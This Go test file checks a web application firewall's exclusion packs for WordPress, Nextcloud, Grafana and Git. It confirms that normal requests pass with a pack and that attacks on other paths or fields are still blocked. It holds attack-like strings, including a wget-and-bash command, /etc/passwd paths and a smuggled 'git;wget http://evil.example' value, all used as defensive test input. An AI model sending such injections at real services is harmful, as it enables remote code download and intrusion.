package waf

import (
	stdjson "encoding/json"
	"fmt"
	"net/url"
	"os"
	"slices"
	"strings"
	"testing"

	configv1 "edge.svc/caddy/gen/svc/config/v1"
)

// pack is one of the console, as its file has it.
type pack struct {
	ID           string
	ContentTypes []string
	Exclusions   []struct {
		Rules      []any
		Paths      []string
		PathPrefix bool
		Part       string
		Names      []string
	}
}

// packed is an exclusion of a pack, and what it says.
type packed struct {
	*configv1.WafExclusion
	pack, rule string
}

func (p packed) String() string {
	return fmt.Sprintf("%s: %s at %q %v %q", p.pack, p.rule, p.GetPath(), p.GetPart(), p.GetName())
}

// readPacks returns all packs, each as the console compiles it.
func readPacks(t *testing.T) (packs []pack, exclusions map[string][]packed) {
	t.Helper()
	source, err := os.ReadFile("../../../../contract/waf-packs.json")
	if err != nil {
		t.Fatal(err)
	}
	if err := stdjson.Unmarshal(source, &packs); err != nil {
		t.Fatal(err)
	}
	exclusions = map[string][]packed{}
	for _, p := range packs {
		for _, e := range p.Exclusions {
			names := e.Names
			if len(names) == 0 {
				names = []string{""}
			}
			for _, path := range e.Paths {
				for _, name := range names {
					for _, rule := range e.Rules {
						m := &configv1.WafExclusion{Path: path, PathPrefix: e.PathPrefix, Name: name}
						m.Part = configv1.WafPart(configv1.WafPart_value["WAF_PART_"+strings.ToUpper(e.Part)])
						if id, isID := rule.(float64); isID {
							m.Rules = &configv1.WafExclusion_Rule{Rule: uint32(id)}
						} else {
							m.Rules = &configv1.WafExclusion_Tag{Tag: rule.(string)}
						}
						exclusions[p.ID] = append(exclusions[p.ID], packed{m, p.ID, fmt.Sprint(rule)})
					}
				}
			}
		}
	}
	return packs, exclusions
}

// packRequest is a request of an application.
type packRequest struct {
	method, target string
	fields         []string
	body           string
}

func (r packRequest) judge(t *testing.T, s *settings) verdict {
	t.Helper()
	return judge(t, s, asked(r.method, r.target, r.body, r.fields...), r.body)
}

// codeTexts are texts about code, by the tag of the rules that take them for attacks.
var codeTexts = map[string]string{
	"attack-xss":           `Our video: <iframe src="https://video.example/embed/7" allowfullscreen></iframe>`,
	"attack-sqli":          "List the schemas with SELECT schema_name FROM information_schema.schemata, then join them.",
	"attack-rce":           "To update, run: sudo apt-get update; wget https://example.com/install.sh && bash install.sh",
	"attack-injection-php": "Add this to the theme: <?php add_action('init', 'my_function'); ?>",
	"attack-lfi":           "Every account has a line in /etc/passwd and one in /etc/shadow.",
	"attack-ssrf":          "Open http://localhost:8080/ to see the result.",
	"attack-protocol":      "The browser sends GET /index.html HTTP/1.1 first.",
}

// queries of data sources, by the tag of the rules that take them for attacks.
var queries = map[string]string{
	"attack-sqli": `SELECT $__timeGroup(created, '5m') AS time, count(*) FROM orders UNION ALL SELECT now(), 0 FROM information_schema.tables`,
	"attack-rce":  `{app="shop"} |= "timeout" | json | line_format "{{.msg}}"; wc -l`,
}

// contentOf is a request that has a text in its named part.
type contentOf func(text string) packRequest

// fieldOf is a form in which one field has the text.
func fieldOf(target, name, others string) contentOf {
	return func(text string) packRequest {
		return packRequest{"POST", target, []string{form}, others + "&" + url.QueryEscape(name) + "=" + url.QueryEscape(text)}
	}
}

// jsonOf is a document in which "@" stands for the text.
func jsonOf(method, target, document string) contentOf {
	return func(text string) packRequest {
		quoted, err := stdjson.Marshal(text)
		if err != nil {
			panic(err)
		}
		return packRequest{method, target, []string{json}, strings.ReplaceAll(document, "@", string(quoted))}
	}
}

// sent are requests of the applications with a text in a named part, by pack, path and name of the part.
var sent = map[string]contentOf{
	"wordpress /wp-admin/post.php content": fieldOf("/wp-admin/post.php", "content", "_wpnonce=0a1b2c3d4e&user_ID=1&action=editpost&post_type=post&post_ID=12&post_title=Notes"),
	"wordpress /wp-admin/admin-ajax.php data[wp_autosave][content]": fieldOf("/wp-admin/admin-ajax.php", "data[wp_autosave][content]",
		"action=heartbeat&_nonce=0a1b2c3d4e&interval=60&screen_id=post&has_focus=true&data%5Bwp_autosave%5D%5Bpost_id%5D=12"),
	"wordpress /wp-json/wp/v2/posts json.content":  jsonOf("POST", "/wp-json/wp/v2/posts/12?_locale=user", `{"id":12,"title":"Notes","content":@}`),
	"wordpress /wp-json/wp/v2/pages json.content":  jsonOf("POST", "/wp-json/wp/v2/pages/7/autosaves?_locale=user", `{"id":7,"title":"About","content":@}`),
	"wordpress /wp-json/wp/v2/blocks json.content": jsonOf("POST", "/wp-json/wp/v2/blocks?_locale=user", `{"title":"Call","status":"publish","content":@}`),
	"grafana /api/ds/query json.queries.*.rawSql": jsonOf("POST", "/api/ds/query?ds_type=postgres&requestId=Q100",
		`{"queries":[{"refId":"A","datasource":{"type":"postgres","uid":"a1"},"format":"time_series","rawSql":@,"intervalMs":60000,"maxDataPoints":400}],"from":"1764200000000","to":"1764240000000"}`),
	"grafana /api/ds/query json.queries.*.expression": jsonOf("POST", "/api/ds/query?ds_type=__expr__&requestId=Q101",
		`{"queries":[{"refId":"B","datasource":{"type":"__expr__","uid":"__expr__"},"type":"sql","expression":@}],"from":"1764200000000","to":"1764240000000"}`),
	"grafana /api/ds/query json.queries.*.expr": jsonOf("POST", "/api/ds/query?ds_type=loki&requestId=Q102",
		`{"queries":[{"refId":"A","datasource":{"type":"loki","uid":"b2"},"expr":@,"queryType":"range","maxLines":1000}],"from":"1764200000000","to":"1764240000000"}`),
	"grafana /api/dashboards/db json.dashboard.panels.*.targets.*.rawSql": jsonOf("POST", "/api/dashboards/db",
		`{"dashboard":{"id":1,"title":"Orders","panels":[{"id":1,"type":"timeseries","targets":[{"refId":"A","format":"time_series","rawSql":@}]}]},"folderUid":"f1","overwrite":true}`),
	"grafana /api/dashboards/db json.dashboard.panels.*.targets.*.expr": jsonOf("POST", "/api/dashboards/db",
		`{"dashboard":{"id":1,"title":"Logs","panels":[{"id":1,"type":"logs","targets":[{"refId":"A","expr":@}]}]},"folderUid":"f1","overwrite":true}`),
	"grafana /apis/dashboard.grafana.app/ json.spec.panels.*.targets.*.rawSql": jsonOf("PUT", "/apis/dashboard.grafana.app/v1beta1/namespaces/default/dashboards/orders",
		`{"kind":"Dashboard","metadata":{"name":"orders"},"spec":{"title":"Orders","panels":[{"id":1,"targets":[{"refId":"A","rawSql":@}]}]}}`),
	"grafana /apis/dashboard.grafana.app/ json.spec.panels.*.targets.*.expr": jsonOf("PUT", "/apis/dashboard.grafana.app/v1beta1/namespaces/default/dashboards/logs",
		`{"kind":"Dashboard","metadata":{"name":"logs"},"spec":{"title":"Logs","panels":[{"id":1,"targets":[{"refId":"A","expr":@}]}]}}`),
}

// A file that a user uploads.
func uploaded(target, contentType, content string) packRequest {
	return packRequest{"PUT", target, []string{"Content-Type: " + contentType, "OCS-APIRequest: true"}, content}
}

const files = "/remote.php/dav/files/jane/"

// Whole requests of the applications, by pack, rule, path and name of the part.
var wholes = map[string]packRequest{
	"wordpress attack-xss /xmlrpc.php ": {"POST", "/xmlrpc.php", []string{"Content-Type: text/xml"},
		`<?xml version="1.0"?><methodCall><methodName>wp.newPost</methodName><params><param><value><int>1</int></value></param><param><value><struct><member><name>post_content</name><value><string>&lt;p&gt;Our video: &lt;iframe src="https://video.example/embed/7" allowfullscreen&gt;&lt;/iframe&gt;&lt;/p&gt;</string></value></member></struct></value></param></params></methodCall>`},
	"nextcloud 911100 /remote.php/ ": {"PROPFIND", "/remote.php/dav/files/jane/Photos", []string{"Content-Type: application/xml; charset=utf-8", "Depth: 1"},
		`<?xml version="1.0"?><d:propfind xmlns:d="DAV:" xmlns:oc="http://owncloud.org/ns"><d:prop><d:getetag/><oc:fileid/></d:prop></d:propfind>`},
	"nextcloud 911100 /.well-known/caldav ":           {"PROPFIND", "/.well-known/caldav", []string{"Depth: 0"}, ""},
	"nextcloud 911100 /.well-known/carddav ":          {"PROPFIND", "/.well-known/carddav", []string{"Depth: 0"}, ""},
	"nextcloud 920420 /remote.php/ Content-Type":      uploaded("/remote.php/dav/calendars/jane/personal/a.ics", "text/calendar; charset=utf-8", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n"),
	"nextcloud 920450 /remote.php/ If":                {"PUT", files + "a.bin", []string{"Content-Type: application/octet-stream", "If: (<opaquelocktoken:0a1b>)"}, "abc"},
	"nextcloud 920450 /remote.php/ Lock-Token":        {"DELETE", files + "a.txt", []string{"Lock-Token: <opaquelocktoken:0a1b>"}, ""},
	"nextcloud 930130 /remote.php/dav/files/ ":        {"GET", files + "project/.gitignore", nil, ""},
	"nextcloud 930130 /remote.php/webdav/ ":           {"GET", "/remote.php/webdav/project/.gitignore", nil, ""},
	"git 930130  ":                                    {"GET", "/team/project.git/info/refs?service=git-upload-pack", []string{"Git-Protocol: version=2"}, ""},
	"git 920450  Content-Encoding":                    {"POST", "/team/project/git-upload-pack", []string{"Content-Type: application/x-git-upload-pack-request", "Content-Encoding: gzip"}, "\x1f\x8b\x08\x00\x00"},
	"git type application/x-git-upload-pack-request":  {"POST", "/team/project/git-upload-pack", []string{"Content-Type: application/x-git-upload-pack-request"}, "0014command=ls-refs\n0000"},
	"git type application/x-git-receive-pack-request": {"POST", "/team/project/git-receive-pack", []string{"Content-Type: application/x-git-receive-pack-request"}, "0000PACK\x00\x00\x00\x02\x00\x00\x00\x00"},
}

// Files whose content rules take for attacks, by the rule.
var fileContents = map[string]string{
	"attack-xss": `{"html":"<iframe src=\"https://video.example/embed/7\"></iframe>"}`, "attack-sqli": `{"query":"SELECT schema_name FROM information_schema.schemata"}`,
	"attack-rce": `{"script":"wget https://example.com/install.sh && bash install.sh"}`, "attack-injection-php": `{"page":"<?php add_action('init', 'my_function'); ?>"}`,
	"921110": `{"log":"GET /index.html HTTP/1.1"}`, "921130": `{"log":"GET /index.html HTTP/1.1"}`, "930120": `{"path":"/etc/passwd"}`,
}

// requestOf is a request of the application that needs an exclusion.
func requestOf(p packed) (packRequest, bool) {
	if send, known := sent[p.pack+" "+p.GetPath()+" "+p.GetName()]; known {
		text := codeTexts[p.rule]
		if p.pack == "grafana" {
			text = queries[p.rule]
		}
		return send(text), text != ""
	}
	if r, known := wholes[strings.Join([]string{p.pack, p.rule, p.GetPath(), p.GetName()}, " ")]; known {
		return r, true
	}
	if content := fileContents[p.rule]; p.pack == "nextcloud" && content != "" {
		return uploaded(p.GetPath()+"jane/a.json", "application/json", content), true
	}
	return packRequest{}, false
}

// packSettings are those of a site that blocks, with exclusions and media types.
func packSettings(t *testing.T, types []string, list ...packed) *settings {
	return settingsOf(t, func(m *configv1.SiteWaf) {
		for _, p := range list {
			m.Exclusions = append(m.Exclusions, p.WafExclusion)
		}
		if len(types) > 0 {
			m.ContentTypes = append(slices.Clone(defaultTypes), types...)
		}
	})
}

// Each exclusion of a pack is for a request that is blocked without it, and that the pack lets pass.
func TestPacksLetTheirApplicationsPass(t *testing.T) {
	plain := packSettings(t, nil)
	packs, exclusions := readPacks(t)
	for _, p := range packs {
		list := exclusions[p.ID]
		whole := packSettings(t, p.ContentTypes, list...)
		check := func(what string, r packRequest, without *settings) {
			t.Helper()
			if v := r.judge(t, plain); v.score < plain.threshold {
				t.Errorf("%s: passes without the pack: %v", what, v)
			}
			if v := r.judge(t, whole); v.score >= whole.threshold {
				t.Errorf("%s: is blocked with the pack: %v", what, v)
			}
			if v := r.judge(t, without); v.score < without.threshold {
				t.Errorf("%s: passes without the exclusion: %v", what, v)
			}
		}
		for i, e := range list {
			r, known := requestOf(e)
			if !known {
				t.Errorf("%v has no request", e)
				continue
			}
			check(e.String(), r, packSettings(t, p.ContentTypes, slices.Delete(slices.Clone(list), i, i+1)...))
		}
		for _, name := range p.ContentTypes {
			check(name, wholes[p.ID+" type "+name], packSettings(t, nil, list...))
		}
	}
}

// What a pack lets pass is an attack in another part, and on another path.
func TestPacksKeepOtherPartsAndPaths(t *testing.T) {
	_, exclusions := readPacks(t)
	all := map[string]*settings{}
	for id, list := range exclusions {
		all[id] = packSettings(t, nil, list...)
	}
	check := func(what string, s *settings, r packRequest) {
		t.Helper()
		if v := r.judge(t, s); v.score < s.threshold {
			t.Errorf("%s passes: %s %s: %v", what, r.method, r.target, v)
		}
	}
	for id, list := range exclusions {
		for _, e := range list {
			r, _ := requestOf(e)
			if e.GetPath() == "" {
				continue
			}
			elsewhere := r
			elsewhere.target = strings.Replace(r.target, strings.TrimSuffix(e.GetPath(), "/"), "/elsewhere", 1)
			check(e.String()+" on another path", all[id], elsewhere)
			if e.GetName() == "" || e.GetPart() != configv1.WafPart_WAF_PART_ARGUMENT {
				continue
			}
			other := r
			last := e.GetName()[strings.LastIndexAny(e.GetName(), ".[")+1:]
			last = strings.TrimSuffix(last, "]")
			if strings.HasPrefix(r.body, "{") {
				other.body = strings.Replace(r.body, `"`+last+`":`, `"other":`, 1)
			} else {
				other.body = strings.Replace(r.body, url.QueryEscape(e.GetName())+"=", "other=", 1)
			}
			if other.body == r.body {
				t.Fatalf("%v: %s is not in the body", e, last)
			}
			check(e.String()+" in another part", all[id], other)
		}
	}
	for _, c := range []struct {
		pack string
		packRequest
	}{
		{"wordpress", packRequest{"POST", "/wp-comments-post.php", []string{form}, "comment=" + url.QueryEscape(xss)}},
		{"wordpress", packRequest{"POST", "/xmlrpc.php", []string{"Content-Type: text/xml"}, "<methodCall><methodName>" + sqli + "</methodName></methodCall>"}},
		{"wordpress", packRequest{"GET", "/wp-admin/post.php?post=" + url.QueryEscape(sqli), nil, ""}},
		{"nextcloud", packRequest{"PROPFIND", "/index.php/apps/files", nil, ""}},
		{"nextcloud", packRequest{"GET", "/index.php/login?user=" + url.QueryEscape(sqli), nil, ""}},
		{"nextcloud", packRequest{"GET", "/config/config.php", nil, ""}},
		{"nextcloud", packRequest{"PUT", files + "a.txt", []string{"Content-Type: text/plain", "X-Middleware-Subrequest: a"}, "abc"}},
		{"grafana", packRequest{"POST", "/login", []string{json}, `{"user":"admin","password":"` + sqli + `"}`}},
		{"git", packRequest{"POST", "/team/project/git-upload-pack", []string{"Content-Type: application/x-evil"}, "0000"}},
		{"git", packRequest{"GET", "/team/project.git/info/refs?service=" + url.QueryEscape("git;wget http://evil.example"), nil, ""}},
		{"git", packRequest{"GET", "/user/login?name=" + url.QueryEscape(sqli), nil, ""}},
		{"git", packRequest{"POST", "/team/project/git-upload-pack", []string{"Proxy: evil.example"}, "0000"}},
	} {
		check(c.pack, all[c.pack], c.packRequest)
	}
}
